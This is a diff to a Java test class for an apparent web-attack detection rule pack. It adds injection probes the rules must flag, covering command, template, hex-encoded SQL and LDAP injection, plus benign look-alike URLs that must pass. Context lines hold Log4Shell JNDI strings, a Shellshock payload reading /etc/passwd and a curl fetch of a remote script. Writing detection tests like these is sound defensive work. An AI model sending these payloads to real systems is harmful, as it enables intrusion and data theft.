@@ -75,6 +75,21 @@ public class RulePackTest {
       "/files/ls%20-l%20/etc/|cmdi|",
       "/c?h=x%3B%20sleep%2010|cmdi|",
       "/files/curl%20https://x.example/a.sh|cmdi|",
+      "/c?h=%26%20pwd|cmdi|",
+      "/c?h=%27%20whoami|cmdi|",
+      "/files/%22%20whoami|cmdi|",
+      "/files/sleep%205|cmdi|",
+      "/|cmdi|; dir",
+      "/|cmdi|;id\\n",
+      "/|cmdi|\\necho INJECTX\\nexit",
+      "/s?q=%7B%7B7*7%7D%7D|cmdi|",
+      "/s?q=%24%7B7*7%7D|cmdi|",
+      "/s?q=%7B%7B%27%27.__class__.__mro__%7D%7D|cmdi|",
+      "/p?id=0x77616974666f722064656c6179|sqli|",
+      "/p?id=0x730065006c00650063007400|sqli|",
+      "/p?q=PRINT%20@@version|sqli|",
+      "/login?user=*%29%28%7C%28objectclass%3D*%29%29|ldapi|",
+      "/login?user=*(%7C(mail=*))|ldapi|",
       "/|log4shell|${jndi:ldap://x.example/a}",
       "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
       "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
@@ -121,7 +136,10 @@ public class RulePackTest {
       "/products/trail-boot-17?color=brown&size=44", "/blog/how-to-choose", "/robots.txt",
       "/static/app.3f9a1c.js", "/login?next=%2Faccount", "/downloads/manual.zip",
       "/search?q=tom+%26+jerry", "/search?q=drop+shipping", "/wp-login.php",
-      "//images/logo.png", "/shop//usr-guide/etc.html", "/t?state=Li4vabc"})
+      "//images/logo.png", "/shop//usr-guide/etc.html", "/t?state=Li4vabc",
+      "/%7B%7Bitem.url%7D%7D", "/search?q=7*7%3D49", "/theme?color=0x64a0ff",
+      "/guides/sleep%205%20tips", "/search?q=sleep+5+hours", "/search?q=(a+%7C+b)+or+c",
+      "/search?q=%40%40+operator"})
   void leavesBenignTrafficAlone(String target) {
     leavesBenignAgentsAlone(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
         + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36");
@@ -283,7 +301,7 @@ public class RulePackTest {
   @Test
   void ruleSetCarriesVersionAndHash() throws IOException {
     RuleSet rs = RuleSet.parse(builtIn());
-    assertThat(rs.version()).contains("evident 2026.11.2");
+    assertThat(rs.version()).contains("evident 2026.11.3");
     assertThat(rs.sha256()).hasSize(64);
     List<RuleFile> changed = new ArrayList<>(builtIn());
     changed.add(new RuleFile("x.yaml", "# nothing"));
